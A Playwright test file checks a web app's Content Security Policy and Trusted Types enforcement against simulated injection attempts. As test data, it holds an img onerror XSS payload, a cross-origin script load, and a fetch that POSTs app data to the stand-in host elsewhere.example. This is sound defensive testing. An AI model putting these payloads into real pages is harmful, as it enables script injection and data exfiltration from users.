// The content policy: the shipped page carries it, it holds against what a hostile link would try, and the tests' own watch sees all of it.
import type { Page } from '@playwright/test';
import { Screen } from '../pages/Screen.ts';
import { expect, test } from '../pages/test.ts';
import { watchFaults } from '../pages/watchFaults.ts';

/** What an injected script would do. Each answers what came of it. */
const attacks: Readonly<Record<string, (page: Page) => Promise<unknown>>> = {
  'inline script': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      try {
        script.textContent = 'window.harmed = true';
        document.body.append(script);
      } catch {
        // Trusted Types refuse the text already.
      }
      return 'harmed' in window;
    }),
  'a script of another origin': (page) =>
    page.evaluate(() => {
      try {
        const script = document.createElement('script');
        script.src = 'https://elsewhere.example/script.js';
        document.body.append(script);
        return document.body.contains(script) && script.src !== '';
      } catch {
        return false;
      }
    }),
  markup: (page) =>
    page.evaluate(() => {
      try {
        document.body.innerHTML += '<img src=x onerror="window.harmed = true">';
        return true;
      } catch {
        return false;
      }
    }),
  'a policy of its own': (page) =>
    page.evaluate(() => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): void };
      };
      try {
        trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
        return true;
      } catch {
        return false;
      }
    }),
  'sending the graph away': (page) =>
    page.evaluate(() =>
      fetch('https://elsewhere.example/', { method: 'POST', body: 'graph', mode: 'no-cors' }).then(
        () => true,
        () => false,
      ),
    ),
  'a worker of its own': (page) =>
    page.evaluate(() => {
      try {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        return worker !== undefined;
      } catch {
        return false;
      }
    }),
};

test('the shipped page names its policy before anything else', async ({ app }) => {
  await app.visit();
  const policy = await app.page.locator('head > :first-child').getAttribute('content');
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval';");
  expect(policy).toContain("require-trusted-types-for 'script'");
  // The kernels are WebAssembly, which this admits and JavaScript from strings it does not.
  expect(policy?.replace("'wasm-unsafe-eval'", '')).not.toMatch(/unsafe|\*|https?:/);
});

for (const [what, attack] of Object.entries(attacks)) {
  test(`${what} is stopped, and the watch sees it`, async ({ browser, baseURL }) => {
    const context = await browser.newContext();
    const faults = await watchFaults(context, baseURL ?? '');
    const app = await new Screen(await context.newPage()).visit();
    expect(faults).toEqual([]);
    expect(await attack(app.page)).toBe(false);
    await expect
      .poll(() => faults.some((fault) => /policy|Content Security|TrustedHTML|TrustedScript/i.test(fault)))
      .toBe(true);
    // The app is as it was.
    expect(await app.page.evaluate(() => 'harmed' in window)).toBe(false);
    await app.canvas.node('fc').expectNumbers('fc.y value', ['2', '3.1']);
    await context.close();
  });
}

test('the watch sees errors, requests that leave and files that are missing', async ({ browser, baseURL }) => {
  const context = await browser.newContext({ bypassCSP: true });
  const faults = await watchFaults(context, baseURL ?? '');
  const page = await context.newPage();
  await page.goto('./');
  await context.route('https://elsewhere.example/**', (route) => route.fulfill({ body: '' }));
  await page.evaluate(async () => {
    setTimeout(() => {
      throw new Error('nobody catches this');
    });
    void Promise.reject(new Error('nor this'));
    console.error('this is said aloud');
    await fetch('missing.json');
    await fetch('https://elsewhere.example/', { mode: 'no-cors' });
  });
  for (const sign of [
    'nobody catches this',
    'nor this',
    'this is said aloud',
    'missing.json answered 404',
    'left the app',
  ]) {
    await expect.poll(() => faults.join('\n')).toContain(sign);
  }
  await context.close();
});
